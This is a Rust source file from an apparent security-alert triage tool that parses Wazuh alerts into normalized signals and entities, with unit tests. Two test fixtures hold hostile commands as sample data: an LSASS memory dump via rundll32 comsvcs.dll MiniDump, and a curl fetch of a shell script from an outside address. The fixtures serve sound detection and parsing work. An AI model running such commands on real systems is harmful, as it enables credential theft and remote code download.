//! Wazuh alerts, as the manager writes them to `alerts.json` (one object per line) and as
//! integrations and the Wazuh indexer pass them on (a search hit's `_source` is
//! unwrapped): `timestamp`, `rule {id, level, description, groups, mitre, frequency}`,
//! `agent {id, name, ip}`, `manager`, `id`, `full_log`, `decoder`, `location`, and the
//! decoded `data` (`srcip`, `srcuser`, `dstuser`, the Windows event channel's
//! `data.win.system`/`data.win.eventdata` including Sysmon, Linux `data.audit`, the
//! VirusTotal integration's `data.virustotal`), plus `syscheck` for file integrity.
//!
//! Severity follows the Wazuh dashboard's bands of the rule level (0-16): 0-6 low, 7-11
//! medium, 12-14 high, 15 and above critical.

use serde_json::Value;
use sleuth_domain::{
    ActionTaken, AlertCategory, EntityKind, NetworkSignal, ParsedAlert, ProcessSignal,
    SignInSignal, SourceVerdict,
};

use super::endpoint_common::{
    action_from_words, direction, file_name, owned, port_at, qualified_user, real_hash,
    some_network, some_process,
};
use crate::ParseError;
use crate::builder::AlertBuilder;
use crate::entities::normalize_ip;
use crate::json::{first_str, first_text, str_at, strings_at, u64_at};
use crate::registry::Schema;
use crate::time::first_time;

pub(crate) static ALERT: Schema = Schema {
    key: "wazuh_alert",
    display_name: "Wazuh alert (alerts.json)",
    source_label: "Wazuh",
    integration: "wazuh",
    sample: include_str!("../../samples/wazuh_alert.json"),
    detect,
    parse,
};

/// Rule groups of sign-in events.
const IDENTITY_GROUPS: &[&str] = &[
    "authentication_success",
    "authentication_failed",
    "authentication_failures",
    "invalid_login",
    "win_authentication",
    "sshd",
    "pam",
    "login_denied",
    "multiple_drops",
];
/// Rule groups of traffic: IDS, firewalls, web servers.
const NETWORK_GROUPS: &[&str] = &["ids", "suricata", "firewall", "web", "accesslog", "web-log"];
/// Rule groups of cloud and SaaS audit logs.
const CLOUD_GROUPS: &[&str] = &["aws", "gcp", "azure", "office365", "github", "ms-graph"];

/// The alert document: an indexer hit's `_source`, or the object itself.
fn document(raw: &Value) -> &Value {
    raw.get("_source")
        .filter(|source| source.is_object())
        .unwrap_or(raw)
}

fn detect(raw: &Value) -> bool {
    let doc = document(raw);
    doc.get("rule").is_some_and(Value::is_object)
        && u64_at(doc, "rule.level").is_some()
        && doc.get("agent").is_some_and(Value::is_object)
        && ["decoder", "manager", "location", "full_log"]
            .iter()
            .any(|key| doc.get(*key).is_some())
}

fn parse(raw: &Value, mut alert: AlertBuilder) -> Result<ParsedAlert, ParseError> {
    let doc = document(raw);
    let rule_id = first_text(doc, &["rule.id"]);
    let description = str_at(doc, "rule.description");
    if rule_id.is_none() && description.is_none() {
        return Err(ParseError::DoesNotFit {
            schema_key: ALERT.key,
            reason: "a Wazuh alert has rule.id or rule.description".into(),
        });
    }
    let agent_id = first_text(doc, &["agent.id"]);
    alert
        .title(description)
        .title(
            rule_id
                .as_deref()
                .map(|id| format!("Wazuh rule {id}"))
                .as_deref(),
        )
        .alert_type(
            rule_id
                .as_deref()
                .map(|id| format!("wazuh:rule:{id}"))
                .as_deref(),
        )
        .create_time(first_time(doc, &["timestamp", "@timestamp"]))
        .start_time(first_time(doc, &["data.win.system.systemTime"]))
        .severity(u64_at(doc, "rule.level").map(level_word))
        .ticket(
            first_text(doc, &["id", "_id"]).or_else(|| first_text(raw, &["_id"])),
            "alert id",
            None,
        )
        .coalesce_key(
            rule_id
                .as_deref()
                .map(|rule| format!("{rule}:{}", agent_id.as_deref().unwrap_or_default())),
        )
        .description(description);

    let groups: Vec<String> = strings_at(doc, "rule.groups")
        .into_iter()
        .map(str::to_ascii_lowercase)
        .collect();
    for group in strings_at(doc, "rule.groups") {
        alert.tag(Some(group));
    }
    for tactic in strings_at(doc, "rule.mitre.tactic") {
        alert.tactic(Some(tactic));
    }
    for technique in strings_at(doc, "rule.mitre.id") {
        alert.technique(Some(technique));
    }

    let eventdata = |key: &str| str_at(doc, &format!("data.win.eventdata.{key}"));
    let image = eventdata("image")
        .or_else(|| eventdata("sourceImage"))
        .or_else(|| str_at(doc, "data.audit.exe"));
    let hashes = eventdata("hashes").map(sysmon_hashes).unwrap_or_default();
    let process = some_process(ProcessSignal {
        name: owned(image.and_then(file_name)),
        path: owned(image),
        command_line: owned(eventdata("commandLine"))
            .or_else(|| audit_command_line(doc))
            .or_else(|| owned(str_at(doc, "data.audit.command"))),
        decoded_command: None,
        parent_name: owned(eventdata("parentImage").and_then(file_name)),
        parent_command_line: owned(eventdata("parentCommandLine")),
        user: owned(eventdata("user").or_else(|| eventdata("sourceUser"))),
        sha256: hashes.sha256,
        sha1: hashes.sha1,
        md5: hashes.md5,
        signer: owned(eventdata("signature")),
    });
    let has_process = process.is_some();
    alert.signals.process = process;

    let category = category(&groups, has_process);
    alert.signals.category = Some(category);
    let target_user = qualified_user(eventdata("targetDomainName"), eventdata("targetUserName"));
    let source_ip = first_str(
        doc,
        &[
            "data.srcip",
            "data.win.eventdata.ipAddress",
            "data.win.eventdata.sourceIp",
        ],
    )
    .and_then(normalize_ip);
    let destination_ip =
        first_str(doc, &["data.dstip", "data.win.eventdata.destinationIp"]).and_then(normalize_ip);
    if category == AlertCategory::Identity {
        let group = |name: &str| groups.iter().any(|group| group == name);
        alert.signals.sign_in = Some(SignInSignal {
            user: target_user
                .clone()
                .or_else(|| owned(first_str(doc, &["data.dstuser", "data.srcuser"]))),
            source_ip: source_ip.clone(),
            succeeded: if group("authentication_success") {
                Some(true)
            } else if group("authentication_failed")
                || group("authentication_failures")
                || group("invalid_login")
            {
                Some(false)
            } else {
                None
            },
            failure_count: group("authentication_failures")
                .then(|| u64_at(doc, "rule.frequency"))
                .flatten()
                .and_then(|count| u32::try_from(count).ok()),
            ..SignInSignal::default()
        });
    }
    alert.signals.network = some_network(NetworkSignal {
        direction: direction(source_ip.as_deref(), destination_ip.as_deref()),
        source_port: port_at(doc, "data.srcport")
            .or_else(|| port_at(doc, "data.win.eventdata.ipPort")),
        destination_port: port_at(doc, "data.dstport")
            .or_else(|| port_at(doc, "data.win.eventdata.destinationPort")),
        protocol: owned(str_at(doc, "data.protocol")).map(|text| text.to_ascii_lowercase()),
        hostname: owned(first_str(
            doc,
            &["data.win.eventdata.destinationHostname", "data.hostname"],
        )),
        source_ip,
        destination_ip,
        ..NetworkSignal::default()
    });

    let malicious = str_at(doc, "data.virustotal.malicious") == Some("1")
        || u64_at(doc, "data.virustotal.positives").is_some_and(|positives| positives > 0);
    alert.signals.source_verdict = malicious.then_some(SourceVerdict::Malicious);
    alert.signals.action =
        Some(str_at(doc, "data.action").map_or(ActionTaken::Observed, action_from_words));

    // The Windows computer name is the agent under its FQDN most of the time; it is a
    // host of its own only when it is another machine (events forwarded by a collector).
    let agent_name = str_at(doc, "agent.name");
    let computer = str_at(doc, "data.win.system.computer").filter(|computer| {
        let short = computer.split('.').next().unwrap_or(computer);
        !agent_name.is_some_and(|agent| agent.eq_ignore_ascii_case(short))
    });
    alert
        .host(agent_name)
        .entity(EntityKind::Ip, str_at(doc, "agent.ip"))
        .host(computer)
        .entity(EntityKind::User, target_user.as_deref())
        .entity(
            EntityKind::User,
            qualified_user(eventdata("subjectDomainName"), eventdata("subjectUserName")).as_deref(),
        )
        .entity(EntityKind::User, str_at(doc, "data.srcuser"))
        .entity(EntityKind::User, str_at(doc, "data.dstuser"))
        .entity(
            EntityKind::Process,
            eventdata("targetImage").and_then(file_name),
        )
        .entity(EntityKind::FilePath, eventdata("targetFilename"))
        .entity(EntityKind::FilePath, str_at(doc, "syscheck.path"))
        // Who-data: the account that logged in and made the change, behind sudo.
        .entity(
            EntityKind::User,
            str_at(doc, "syscheck.audit.login_user.name"),
        )
        .entity(EntityKind::User, str_at(doc, "syscheck.audit.user.name"))
        .hash(real_hash(str_at(doc, "syscheck.sha256_after")).as_deref())
        .hash(real_hash(str_at(doc, "syscheck.sha1_after")).as_deref())
        .hash(real_hash(str_at(doc, "syscheck.md5_after")).as_deref())
        .entity(EntityKind::User, str_at(doc, "syscheck.uname_after"))
        .entity(
            EntityKind::FilePath,
            str_at(doc, "data.virustotal.source.file"),
        )
        .hash(real_hash(str_at(doc, "data.virustotal.source.sha1")).as_deref())
        .hash(real_hash(str_at(doc, "data.virustotal.source.md5")).as_deref())
        .sweep(str_at(doc, "full_log"));
    Ok(alert.finish())
}

/// The Wazuh dashboard's severity of a rule level.
fn level_word(level: u64) -> &'static str {
    match level {
        0..=6 => "low",
        7..=11 => "medium",
        12..=14 => "high",
        _ => "critical",
    }
}

/// Cloud audit logs are cloud alerts; sign-ins without a process are identity alerts;
/// traffic without a process is a network alert; the rest happens on a host.
fn category(groups: &[String], has_process: bool) -> AlertCategory {
    let any = |names: &[&str]| groups.iter().any(|group| names.contains(&group.as_str()));
    if any(CLOUD_GROUPS) {
        AlertCategory::Cloud
    } else if any(IDENTITY_GROUPS) && !has_process {
        AlertCategory::Identity
    } else if any(NETWORK_GROUPS) && !has_process {
        AlertCategory::Network
    } else {
        AlertCategory::Endpoint
    }
}

/// The digests of Sysmon's `Hashes` field ("SHA1=..,MD5=..,SHA256=..,IMPHASH=..").
#[derive(Default)]
struct Digests {
    sha256: Option<String>,
    sha1: Option<String>,
    md5: Option<String>,
}

fn sysmon_hashes(text: &str) -> Digests {
    let mut digests = Digests::default();
    for pair in text.split(',') {
        let Some((kind, value)) = pair.split_once('=') else {
            continue;
        };
        let value = real_hash(Some(value));
        match kind.trim().to_ascii_uppercase().as_str() {
            "SHA256" => digests.sha256 = value,
            "SHA1" => digests.sha1 = value,
            "MD5" => digests.md5 = value,
            _ => {}
        }
    }
    digests
}

/// The command line of a Linux audit `EXECVE` record (`data.audit.execve.a0`, `a1`, ...).
fn audit_command_line(doc: &Value) -> Option<String> {
    let arguments: Vec<&str> = (0..32)
        .map_while(|index| str_at(doc, &format!("data.audit.execve.a{index}")))
        .collect();
    (!arguments.is_empty()).then(|| arguments.join(" "))
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::parse_alert;

    fn read(raw: &Value) -> ParsedAlert {
        parse_alert(None, raw, chrono::Utc::now()).expect("parses")
    }

    fn has(parsed: &ParsedAlert, kind: EntityKind, value: &str) -> bool {
        parsed
            .entities
            .iter()
            .any(|entity| entity.kind == kind && entity.value == value)
    }

    #[test]
    fn the_sample_reads_completely() {
        let raw: Value = serde_json::from_str(ALERT.sample).unwrap();
        let parsed = read(&raw);
        assert_eq!(parsed.schema_key, "wazuh_alert");
        assert_eq!(
            parsed.title,
            "sshd: brute force trying to get access to the system. Non existent user."
        );
        assert_eq!(parsed.alert_type, "wazuh:rule:5712");
        assert_eq!(parsed.severity.as_deref(), Some("medium"));
        assert_eq!(
            parsed.create_time.to_rfc3339(),
            "2026-03-07T02:41:16.508+00:00"
        );
        assert_eq!(
            parsed.origin_ticket_id.as_deref(),
            Some("1772851276.4418823")
        );
        assert_eq!(parsed.coalesce_key.as_deref(), Some("wazuh_alert:5712:014"));
        assert_eq!(parsed.signals.category, Some(AlertCategory::Identity));
        assert_eq!(parsed.signals.mitre_tactics, vec!["Credential Access"]);
        assert_eq!(parsed.signals.mitre_techniques, vec!["T1110"]);
        let sign_in = parsed.signals.sign_in.as_ref().unwrap();
        assert_eq!(sign_in.source_ip.as_deref(), Some("203.0.113.66"));
        assert_eq!(sign_in.succeeded, Some(false));
        assert_eq!(sign_in.failure_count, Some(8));
        assert!(has(&parsed, EntityKind::Host, "build-01"));
        assert!(has(&parsed, EntityKind::Ip, "203.0.113.66"));
        assert!(has(&parsed, EntityKind::Ip, "10.40.0.15"));
    }

    #[test]
    fn levels_map_to_the_dashboard_bands() {
        let cases = [
            (0, "low"),
            (3, "low"),
            (6, "low"),
            (7, "medium"),
            (11, "medium"),
            (12, "high"),
            (14, "high"),
            (15, "critical"),
            (16, "critical"),
        ];
        for (level, expected) in cases {
            assert_eq!(level_word(level), expected, "{level}");
        }
    }

    #[test]
    fn sysmon_process_events_fill_the_process_and_its_hashes() {
        let parsed = read(&json!({
            "timestamp": "2026-03-07T10:00:00.000+0000", "id": "1772877600.1",
            "rule": {"id": "92052", "level": 12, "description": "Process dumped LSASS memory", "groups": ["sysmon", "sysmon_eid1_detections", "windows"],
                     "mitre": {"id": ["T1003.001"], "tactic": ["Credential Access"]}},
            "agent": {"id": "021", "name": "wks-0412", "ip": "10.20.44.12"},
            "manager": {"name": "wazuh-manager-01"}, "decoder": {"name": "windows_eventchannel"},
            "data": {"win": {"system": {"eventID": "1", "computer": "WKS-0412.corp.example.com", "systemTime": "2026-03-07T09:59:58.1234567Z"},
                     "eventdata": {"image": "C:\\\\Windows\\\\System32\\\\rundll32.exe", "commandLine": "rundll32.exe comsvcs.dll, MiniDump 640 C:\\\\Temp\\\\o.dmp full",
                                   "parentImage": "C:\\\\Windows\\\\System32\\\\cmd.exe", "user": "CORP\\\\l.brown",
                                   "hashes": "SHA1=ABCDEF0123456789ABCDEF0123456789ABCDEF01,MD5=0123456789ABCDEF0123456789ABCDEF,SHA256=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA,IMPHASH=FFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFF"}}}
        }));
        assert_eq!(parsed.severity.as_deref(), Some("high"));
        assert_eq!(parsed.signals.category, Some(AlertCategory::Endpoint));
        let process = parsed.signals.process.as_ref().unwrap();
        assert_eq!(process.name.as_deref(), Some("rundll32.exe"));
        assert_eq!(process.parent_name.as_deref(), Some("cmd.exe"));
        assert_eq!(process.sha256.as_deref(), Some("a".repeat(64).as_str()));
        assert_eq!(
            process.md5.as_deref(),
            Some("0123456789abcdef0123456789abcdef")
        );
        assert!(has(&parsed, EntityKind::Host, "wks-0412"));
        assert!(
            !has(&parsed, EntityKind::Host, "wks-0412.corp.example.com"),
            "the agent's own FQDN is not a second host"
        );
    }

    #[test]
    fn linux_audit_commands_and_indexer_hits_read_too() {
        let parsed = read(&json!({
            "_index": "wazuh-alerts-4.x-2026.03.07", "_id": "hit-1",
            "_source": {
                "timestamp": "2026-03-07T10:00:00.000+0000",
                "rule": {"id": "80792", "level": 3, "description": "Audit: Command: /usr/bin/curl", "groups": ["audit", "audit_command"]},
                "agent": {"id": "031", "name": "build-01", "ip": "10.40.0.15"}, "location": "/var/log/audit/audit.log",
                "data": {"audit": {"exe": "/usr/bin/curl", "execve": {"a0": "curl", "a1": "-s", "a2": "http://198.51.100.23/x.sh"}}}
            }
        }));
        assert_eq!(parsed.origin_ticket_id.as_deref(), Some("hit-1"));
        assert_eq!(parsed.severity.as_deref(), Some("low"));
        let process = parsed.signals.process.as_ref().unwrap();
        assert_eq!(
            process.command_line.as_deref(),
            Some("curl -s http://198.51.100.23/x.sh")
        );
        assert!(has(&parsed, EntityKind::Url, "http://198.51.100.23/x.sh"));
    }

    #[test]
    fn other_shapes_are_not_wazuh_alerts() {
        assert!(!detect(&json!({"rule": {"level": 5}, "agent": {}})));
        assert!(!detect(
            &json!({"rule": {"id": "1"}, "agent": {}, "decoder": {}})
        ));
        assert!(!detect(&json!({"rule": "x", "agent": {}, "manager": {}})));
    }

    #[test]
    fn hostile_input_never_panics() {
        // Unicode starts after eight ASCII bytes; see the note in crowdstrike.rs.
        let huge = format!("unicode:{}", "é".repeat(100_000));
        let hostile = [
            json!({"rule": {"level": "7", "id": [], "groups": "x", "mitre": {"id": 5}}, "agent": {"ip": 1}, "manager": 1,
                   "data": {"win": {"eventdata": {"hashes": "=,==,SHA256=,MD5"}}, "audit": {"execve": {"a0": 1}}, "srcport": 70000}}),
            json!({"rule": {"level": 99999999999_u64, "id": huge.clone(), "description": huge.clone()}, "agent": {"name": huge.clone()},
                   "full_log": huge.clone(), "timestamp": huge.clone(), "decoder": {},
                   "data": {"srcip": huge.clone(), "win": {"eventdata": {"commandLine": huge.clone(), "hashes": huge.clone()}}}}),
        ];
        for raw in hostile {
            let _ = crate::parse_alert(None, &raw, chrono::Utc::now());
            let _ = crate::parse_alert(Some(ALERT.key), &raw, chrono::Utc::now());
        }
    }
}
